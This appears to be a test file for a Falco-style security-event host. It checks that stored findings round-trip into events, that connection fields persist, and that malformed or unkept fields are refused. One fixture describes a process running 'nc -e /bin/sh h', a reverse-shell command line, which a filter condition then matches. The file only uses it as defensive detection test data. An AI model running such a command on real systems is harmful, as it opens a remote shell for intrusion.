// SPDX-License-Identifier: Apache-2.0
// Findings made into events again. The oracle is the event itself: of random events, each field that a
// condition over stored findings may ask for has the value that it had.
import { test } from "uvu";
import * as assert from "uvu/assert";
import { EVENTS } from "../../../build/generated/events.js";
import { Filter } from "../../../host/falco/falco.js";
import { takeFinding } from "../../../host/finding/finding.js";
import { STORED_FIELDS, storedBatches } from "../../../host/finding/stored.js";
import { jsonOf } from "../../../host/output/numbers.js";
import { openBatch } from "../../../host/wire/batch.js";
import { BatchBuilder } from "../../../host/wire/builder.js";
import type { ContainerFacts } from "../../../host/wire/container.js";
import { fieldValue } from "../../../host/wire/fields.js";
import { Random } from "../falco/random.js";
import { randomBatch } from "../falco/random-batch.js";

const ROUNDS = 60;
const RECORDS = 40;
const OF_FILES = /^fd\.((container)?name|realpath|ino|dev.*)$/;
const OF_SOCKETS = /^fd\.([cslr]?(ip|net|port|proto)|l4proto|is_server)$/;
const RULE = { policy: "p", version: "1.0.0", rule: "r", tenant: null, tags: [] };
const stored = (finding: unknown): unknown => JSON.parse(jsonOf(finding));

function factsOf(r: Random): ContainerFacts | null {
  if (r.chance(0.4)) return null;
  const none = { imageId: null, imageRepository: null, imageTag: null, labels: null, ip: null, service: null };
  const more = { cluster: null, taskArn: null, taskFamily: null, taskRevision: null, containerArn: null };
  const [name, image] = [r.of(["web", "db", null]), r.of(["repo/web:1", null])];
  return {
    id: "3ad7b26ded6d",
    name,
    type: "ecs",
    image,
    imageDigest: r.of(["sha256:7", null]),
    availabilityZone: null,
    ...none,
    ...more,
  };
}

test("of random events each field that is kept has the value that it had", () => {
  const r = new Random(20_261_129);
  const seen = new Map<string, number>();
  for (let round = 0; round < ROUNDS; round++) {
    const batch = openBatch(randomBatch(r, RECORDS, { types: EVENTS.map(({ name }) => name) }));
    batch.container = factsOf(r);
    const findings = [...batch.offsets].map((at) => takeFinding(batch, at, RULE));
    const again = storedBatches(findings.map(stored));
    let count = 0;
    for (const { batch: other, indexOf } of again)
      for (const [at, index] of indexOf) {
        const { file, endpoint, isCut } = findings[index]!;
        if (isCut) continue;
        count++;
        const before = batch.offsets[index]!;
        for (const field of STORED_FIELDS) {
          if (field.startsWith("fd.") && file === null && endpoint === null) continue;
          // Chance gives sockets names and inodes, and files addresses; an agent does not.
          if ((endpoint === null ? OF_SOCKETS : OF_FILES).test(field)) continue;
          const get = field === "evt.type.is" ? fieldValue("evt.type.is[openat]") : fieldValue(field);
          const [had, has] = [get!(batch, before), get!(other, at)];
          assert.equal(has, had, `${field} of ${jsonOf(findings[index])}`);
          if (had !== null) seen.set(field, (seen.get(field) ?? 0) + 1);
        }
      }
    assert.ok(count > RECORDS / 2, `${count} of ${RECORDS}`);
  }
  const never = [...STORED_FIELDS].filter((field) => !seen.has(field) && !/^fd\.(container)?name$/.test(field));
  assert.equal(never, [], "each was there at least once");
});

test("a connection has its name again, of both families and both sides", async () => {
  const builder = new BatchBuilder();
  const me = builder.process({ pid: 7, name: "nc", args: ["-e", "/bin/sh", "h"], exepath: "/bin/nc" });
  const v6 = Uint8Array.from([0x20, 1, 0x0d, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1]);
  const ends = { cport: 40_000, sport: 443, l4proto: 6 };
  const v4 = { cip: Uint8Array.of(10, 0, 0, 1), sip: Uint8Array.of(1, 2, 3, 4) };
  for (const [slots, flags] of [
    [{ type: "4", ...v4, ...ends, name: "10.0.0.1:40000->1.2.3.4:443" }, 0],
    [{ type: "4", ...v4, ...ends, name: "10.0.0.1:40000->1.2.3.4:443" }, 2],
    [{ type: "6", cip: v6, sip: v6, ...ends, name: "2001:db8::1:40000->2001:db8::1:443" }, 0],
  ] as const)
    builder.record("connect", { process: me, descriptor: builder.descriptor({ ...slots, flags }) });
  const batch = openBatch(builder.bytes());
  const findings = [...batch.offsets].map((at) => takeFinding(batch, at, RULE));
  const [again] = storedBatches(findings.map(stored));
  const matched = async (condition: string): Promise<number[]> =>
    new Filter(await Filter.compile(condition, STORED_FIELDS))
      .matching(again!.batch)
      .map((at) => again!.indexOf.get(at)!);
  assert.equal(await matched("fd.name = 10.0.0.1:40000->1.2.3.4:443"), [0, 1]);
  assert.equal(await matched("fd.name startswith 2001:db8::1: and fd.l4proto = tcp"), [2]);
  assert.equal(await matched("fd.rip = 1.2.3.4 and fd.rport = 443"), [0]);
  assert.equal(await matched("fd.is_server = true and fd.rnet = 10.0.0.0/8"), [1]);
  assert.equal(await matched('proc.cmdline = "nc -e /bin/sh h"'), [0, 1, 2]);
  assert.equal(await matched("evt.type in (open, openat)"), []);
});

test("what is no finding of ours is no event, and harms none beside it", async () => {
  const builder = new BatchBuilder();
  builder.record("openat", { process: builder.process({ pid: 7, name: "cat" }) });
  const batch = openBatch(builder.bytes());
  const good = stored(takeFinding(batch, 0, RULE)) as Record<string, unknown>;
  const event = good.event as Record<string, unknown>;
  const bad = [
    null,
    7,
    "text",
    [],
    {},
    { event: null },
    { ...good, event: { ...event, type: "no_such_call" } },
    { ...good, event: { ...event, time: "soon" } },
    { ...good, event: { ...event, time: "-1" } },
  ];
  const odd = {
    ...good,
    process: { pid: {}, name: ["x"], commandLine: 7, started: "99999999999999999999999999" },
    ancestors: "many",
    endpoint: { localIp: "1.2.3.999", remoteIp: ":::::", localPort: -5, protocol: "tcp" },
    container: { id: 7 },
  };
  const found = storedBatches([...bad, good, odd]).flatMap(({ indexOf }) => [...indexOf.values()]);
  assert.equal(
    found.sort((a, b) => a - b),
    [bad.length, bad.length + 1],
  );
});

test("a field that a finding does not keep is refused by its name, wherever it stands", async () => {
  for (const [condition, said] of [
    ["proc.env contains x", /column 1: proc\.env is not kept/],
    ["evt.type = open and not fd.nameraw = x", /fd\.nameraw is not kept/],
    ["evt.type = open and proc.args[1] = x", /proc\.args\[1\] is not kept/],
    ["evt.arg.flags contains O_CREAT", /evt\.arg\.flags is not kept/],
    ["fd.name = val(proc.sname)", /proc\.sname is not kept/],
    ["toupper(proc.exe) = X", /proc\.exe is not kept/],
  ] as const)
    assert.match(await Filter.compile(condition, STORED_FIELDS).then(String, String), said, condition);
});

test.run();
